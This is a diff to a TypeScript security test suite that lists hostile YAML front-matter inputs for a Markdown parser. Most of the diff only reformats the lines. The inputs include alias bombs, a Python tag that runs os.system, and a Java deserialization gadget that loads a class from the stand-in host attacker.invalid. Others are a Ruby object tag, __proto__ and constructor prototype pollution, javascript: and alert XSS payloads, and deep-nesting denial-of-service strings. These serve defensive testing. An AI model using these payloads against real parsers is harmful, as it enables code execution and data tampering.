@@ -39,7 +39,12 @@ export const YAML: AttackClass = {
   attacks: [
     bombs('Lists of aliases of lists grow without end', '[', ']', (alias) => alias),
     bombs('Maps of aliases of maps grow without end', '{', '}', (alias, n) => `k${n}: ${alias}`),
-    bombs('Merges of merges grow without end', '{', '}', (alias, n) => `k${n}: {${n === 0 && alias !== 'x' ? '<<' : 'v'}: ${alias}}`),
+    bombs(
+      'Merges of merges grow without end',
+      '{',
+      '}',
+      (alias, n) => `k${n}: {${n === 0 && alias !== 'x' ? '<<' : 'v'}: ${alias}}`,
+    ),
     yaml('An alias stands for what it stands in', 'error', 'topics: &a [x, *a]'),
     yaml('An alias stands for nothing', 'error', 'topics: [*nothing]'),
     yaml('An alias stands for a map that it stands in', 'error', 'withdrawn: &a {text: {x: *a}}'),
@@ -49,7 +54,11 @@ export const YAML: AttackClass = {
     yaml('A tag is that of the source’s own key', 'dialog', '? !!js/function "alert(1)"\n: x'),
     yaml('A tag calls a program in Python', 'error', 'publisher: !!python/object/apply:os.system ["id"]'),
     yaml('A tag makes an object in Ruby', 'error', 'publisher: !ruby/object:Gem::Installer {i: x}'),
-    yaml('A tag makes an object in Java', 'error', 'publisher: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["https://attacker.invalid/"]]]]'),
+    yaml(
+      'A tag makes an object in Java',
+      'error',
+      'publisher: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["https://attacker.invalid/"]]]]',
+    ),
     yaml('A tag is of nobody', 'error', 'publisher: !x y'),
     yaml('A tag has no name', 'error', 'publisher: !<> y'),
     title('A tag makes bytes of a title', 'error', '!!binary aGk='),
@@ -71,11 +80,34 @@ export const YAML: AttackClass = {
     yaml('The name of the prototype is a key in lines of its own', 'prototype', `? __proto__\n: ${POLLUTION}`),
     yaml('A withdrawal sets the prototype', 'prototype', `withdrawn: {text: x, __proto__: ${POLLUTION}}`),
     yaml('A translation sets the prototype', 'prototype', `translations: {__proto__: ${POLLUTION}}`),
-    yaml('A correction sets the prototype', 'prototype', `corrections: [{date: 2024-01-01, kind: update, text: x, __proto__: ${POLLUTION}}]`),
-    {name: 'A source sets the prototype', does: 'prototype', markdown: harbour().replace('{publisher: The Gazette,', `{__proto__: ${POLLUTION}, publisher: The Gazette,`)},
-    {name: 'A source is the prototype', does: 'prototype', markdown: harbour('', 'Text [^__proto__].\n').replace('sources:\n', 'sources:\n  __proto__: {publisher: P, title: T, polluted: "yes"}\n')},
-    yaml('The front matter sets the prototype by the constructor', 'prototype', `constructor: {prototype: ${POLLUTION}}`),
-    yaml('A correction sets the prototype by the constructor', 'prototype', `corrections: [{date: 2024-01-01, kind: update, text: x, constructor: {prototype: ${POLLUTION}}}]`),
+    yaml(
+      'A correction sets the prototype',
+      'prototype',
+      `corrections: [{date: 2024-01-01, kind: update, text: x, __proto__: ${POLLUTION}}]`,
+    ),
+    {
+      name: 'A source sets the prototype',
+      does: 'prototype',
+      markdown: harbour().replace('{publisher: The Gazette,', `{__proto__: ${POLLUTION}, publisher: The Gazette,`),
+    },
+    {
+      name: 'A source is the prototype',
+      does: 'prototype',
+      markdown: harbour('', 'Text [^__proto__].\n').replace(
+        'sources:\n',
+        'sources:\n  __proto__: {publisher: P, title: T, polluted: "yes"}\n',
+      ),
+    },
+    yaml(
+      'The front matter sets the prototype by the constructor',
+      'prototype',
+      `constructor: {prototype: ${POLLUTION}}`,
+    ),
+    yaml(
+      'A correction sets the prototype by the constructor',
+      'prototype',
+      `corrections: [{date: 2024-01-01, kind: update, text: x, constructor: {prototype: ${POLLUTION}}}]`,
+    ),
     yaml('A merge brings the prototype along', 'prototype', `<<: {__proto__: ${POLLUTION}}`),
     yaml('A list of merges brings the prototype along', 'prototype', `<<: [{x: y}, {__proto__: ${POLLUTION}}]`),
     yaml('An alias brings the prototype along', 'prototype', `x: &a ${POLLUTION}\n__proto__: *a`),
@@ -86,13 +118,24 @@ export const YAML: AttackClass = {
     yaml('A merge brings markup along', 'dialog', `<<: {publisher: '${HANDLER}'}`),
     yaml('A merge brings a script along', 'attribute', "<<: {contact: 'javascript:alert`1`'}"),
     yaml('A merge stands in a merge', 'dialog', `<<: {<<: {publisher: '${HANDLER}'}}`),
-    {name: 'A source is merged from another', does: 'dialog', markdown: harbour().replace('sources:\n', `sources:\n  x: &x {publisher: '${HANDLER}', title: T}\n  y: {<<: *x}\n`)},
+    {
+      name: 'A source is merged from another',
+      does: 'dialog',
+      markdown: harbour().replace(
+        'sources:\n',
+        `sources:\n  x: &x {publisher: '${HANDLER}', title: T}\n  y: {<<: *x}\n`,
+      ),
+    },
 
     yaml('A key is there twice', 'error', 'title: Another'),
     yaml('A key is there twice, once in quotes', 'error', '"title": Another'),
     yaml('A key is there twice in a map in braces', 'error', 'withdrawn: {text: x, text: y}'),
     yaml('The sources are there twice', 'error', 'sources: {one: {publisher: P, title: T}}'),
-    {name: 'A source is there twice', does: 'error', markdown: harbour().replace('sources:\n', 'sources:\n  one: {publisher: P, title: T}\n')},
+    {
+      name: 'A source is there twice',
+      does: 'error',
+      markdown: harbour().replace('sources:\n', 'sources:\n  one: {publisher: P, title: T}\n'),
+    },
     yaml('The prototype is set twice', 'error', `__proto__: ${POLLUTION}\n__proto__: {}`),
 
     yaml('A key is a list', 'error', '? [a, b]\n: c'),
@@ -107,8 +150,14 @@ export const YAML: AttackClass = {
     only('The front matter has an escape that is none', 'error', String.raw`title: "\q"`),
     only('The front matter is empty', 'error', ''),
     // Beyond the limits it is no front matter, but text.
-    {...yaml('Lists are nested ten thousand deep', 'error', `x: ${'['.repeat(10_000)}${']'.repeat(10_000)}`), mayFail: true},
-    {...yaml('Maps are nested ten thousand deep', 'error', `x: ${'{a: '.repeat(10_000)}x${'}'.repeat(10_000)}`), mayFail: true},
+    {
+      ...yaml('Lists are nested ten thousand deep', 'error', `x: ${'['.repeat(10_000)}${']'.repeat(10_000)}`),
+      mayFail: true,
+    },
+    {
+      ...yaml('Maps are nested ten thousand deep', 'error', `x: ${'{a: '.repeat(10_000)}x${'}'.repeat(10_000)}`),
+      mayFail: true,
+    },
     {...yaml('Ten thousand lists are not closed', 'error', `x: ${'['.repeat(10_000)}`), mayFail: true},
     {...yaml('Ten thousand dashes stand in a line', 'error', `x:\n  ${'- '.repeat(10_000)}x`), mayFail: true},
   ],
